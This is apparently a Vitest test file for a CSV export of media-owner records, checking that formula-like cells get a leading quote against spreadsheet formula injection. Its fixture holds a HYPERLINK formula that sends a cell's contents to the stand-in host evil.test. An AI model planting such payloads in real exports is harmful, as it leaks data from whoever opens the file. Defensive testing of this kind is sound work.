import type { MediaOwnerDto } from '@plano/core';
import { describe, expect, it } from 'vitest';
import { DATA_COLUMNS } from './media-owner-columns.tsx';
import { mediaOwnersCsv } from './media-owners-export.ts';

const HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';

const owner: MediaOwnerDto = {
  _id: 'o',
  name: HYPERLINK,
  states: ['-Región de Coquimbo'],
  aliases: ['@alias', 'Cordillera'],
  phone: '+56 9 1234 5678',
  email: 'contacto@cordillera.test',
  country: 'Chile',
  inv_uploaded: 'yes',
  inv_last_updated: '2026-03-04T10:00:00.000Z',
  user: null,
};
const plainOwner: MediaOwnerDto = {
  ...owner,
  _id: 'p',
  name: 'Vallas "Sur"',
  states: [],
  aliases: [],
  phone: '56 2 2345',
  inv_uploaded: 'no',
  inv_last_updated: null,
};
const HEADERS = Object.fromEntries(DATA_COLUMNS.map((c) => [c, `H ${c}`])) as Record<
  (typeof DATA_COLUMNS)[number],
  string
>;

/** The cells of a CSV line whose every cell is quoted (no comma or quote inside these). */
const cells = (line: string) => line.slice(1, -1).split('","');

describe('mediaOwnersCsv', () => {
  const lines = mediaOwnersCsv([owner, plainOwner], HEADERS).split('\r\n');

  it('has the column names, one line per owner, every cell quoted', () => {
    expect(lines[0]).toBe(DATA_COLUMNS.map((c) => `"H ${c}"`).join(','));
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
  });

  it('guards every formula-like cell with a leading quote', () => {
    const [name, states, aliases, phone] = cells(lines[1]);
    expect(name).toBe(`'${HYPERLINK.replaceAll('"', '""')}`);
    expect(states).toBe("'-Región de Coquimbo");
    expect(aliases).toBe("'@alias, Cordillera");
    expect(phone).toBe("'+56 9 1234 5678");
    for (const cell of cells(lines[1])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the readable values: e-mail, yes/no, the day of the last update, quotes doubled', () => {
    expect(cells(lines[1]).slice(4)).toEqual(['contacto@cordillera.test', 'yes', '2026-03-04']);
    expect(lines[2]).toBe('"Vallas ""Sur""","","","56 2 2345","contacto@cordillera.test","no",""');
  });
});
